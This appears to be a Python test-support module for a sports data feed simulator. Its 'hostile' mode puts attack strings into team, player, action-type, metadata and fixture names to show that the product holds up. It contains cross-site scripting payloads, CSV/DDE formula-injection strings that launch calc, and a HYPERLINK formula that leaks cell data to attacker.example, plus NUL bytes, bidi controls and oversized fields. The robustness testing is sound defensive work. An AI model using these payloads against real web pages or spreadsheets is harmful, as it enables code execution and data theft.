"""``--hostile``: a vendor that sends what no vendor should, to prove the product holds.

Names 200,000 characters long, markup, spreadsheet formulas, NUL and the bidirectional
controls that make text display reversed, in team and player names, in the names of a few
action types of its own, in metadata and in the REST fixture list; and a REST 401 (and an
auth refusal on the socket) that echoes the token it was sent. The match under it is the
ordinary one: same actions, same score, same packets but for those names and metadata.
What the product does with each is in docs/dde-protocol.md "What we accept".
"""

from __future__ import annotations

import uuid
from typing import Any, Final

from streams.simulator.catalog import ActionType

LONG_CHARS: Final = 200_000
SCRIPT: Final = '<script>alert("dde")</script>'
IMG: Final = "<img src=x onerror=alert(1)>"
HYPERLINK: Final = '=HYPERLINK("https://attacker.example/?leak="&A1,"Click me")'
CMD: Final = "=cmd|' /C calc'!A0"
FORMULAS: Final = ("+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0")
# Right-to-left override and pop, an isolate, the marks and the Arabic letter mark.
BIDI: Final = "\u202e\u2066\u200f\u061c\u200e"
NUL: Final = "\x00"
# Ids of the action types hostile mode adds (the invented ones start at 90000).
HOSTILE_TYPE_BASE: Final = 99_000
# One packet in this many carries a 200,000-character team name (another, a player name):
# enough to prove the bound, few enough for a test to store the match in seconds.
LONG_EVERY: Final = 64


def long_text(start: str) -> str:
    """``start`` padded to exactly LONG_CHARS characters."""
    return (start + " " + "W" * LONG_CHARS)[:LONG_CHARS]


def hostile_name(name: str, seq: int, salt: int) -> str:
    """The name a hostile feed sends for ``name`` in packet ``seq``: every packet something
    else (``salt`` keeps team and player apart), now and then 200,000 characters long."""
    if (seq + salt) % LONG_EVERY == 0:
        return long_text(f"{SCRIPT}{name}")
    kind = (seq + salt) % 7
    if kind == 0:
        return f"{SCRIPT}{name}"
    if kind == 1:
        return f"{IMG}{name}"
    if kind == 2:
        return f"{HYPERLINK}{name}"
    if kind == 3:
        return f"{CMD} {name}"
    if kind == 4:
        return f"{FORMULAS[seq % len(FORMULAS)]} {name}"
    if kind == 5:
        return f"{BIDI[:2]}{name}{BIDI[2:]}\u202c\u2069"
    return f"{name}\n\t{IMG}"  # line breaks and tabs in a name


def hostile_types() -> tuple[ActionType, ...]:
    """Action types of hostile mode: their names are the attack. Ids from 99000; the one with
    a NUL makes Postgres refuse its packets (the product records them as rejected frames)."""
    names = (
        long_text(f"Long Type {IMG}"),
        f"{SCRIPT}Markup Type",
        f"{HYPERLINK} Formula Type",
        f"{BIDI[:2]}Reversed Type\u202c\u2069",
        f"Nul{NUL}Type",
    )
    return tuple(
        ActionType(HOSTILE_TYPE_BASE + index, name, "invented") for index, name in enumerate(names)
    )


def hostile_metadata(metadata: dict[str, Any] | None) -> dict[str, Any] | None:
    """Match Conditions' metadata with a long string, deep nesting and a wide array added."""
    if metadata is None or "weather" not in metadata:
        return metadata
    deep: dict[str, Any] = {"bottom": CMD}
    for _ in range(40):
        deep = {"deeper": deep}
    return {
        **metadata,
        "weather": long_text(f"{SCRIPT}Sunny"),
        "pitchCondition": f"{HYPERLINK}{BIDI}",
        "notes": deep,
        "readings": list(range(5000)),
    }


def hostile_fixture(payload: dict[str, Any], fixture_id: uuid.UUID) -> dict[str, Any]:
    """A REST fixture object with every attack at once: markup, a formula, NUL and bidi in
    its name, a 200,000-character home team and venue, a formula and NUL in the away team."""
    teams = payload["teams"]
    home, away = teams[0]["name"], teams[1]["name"]
    return {
        **payload,
        "name": f"{SCRIPT}{home} v {CMD}{away}{NUL}{BIDI}",
        "teams": [
            {**teams[0], "name": long_text(f"{IMG}{home}")},
            {**teams[1], "name": f"{HYPERLINK}{NUL}{away}{BIDI}"},
        ],
        "venue": {"name": long_text(f"{SCRIPT}Stadium {fixture_id}")},
    }


def echoed_refusal(presented: str) -> str:
    """A refusal that echoes the credentials it was sent, as some servers do."""
    return f"token rejected: {presented}"
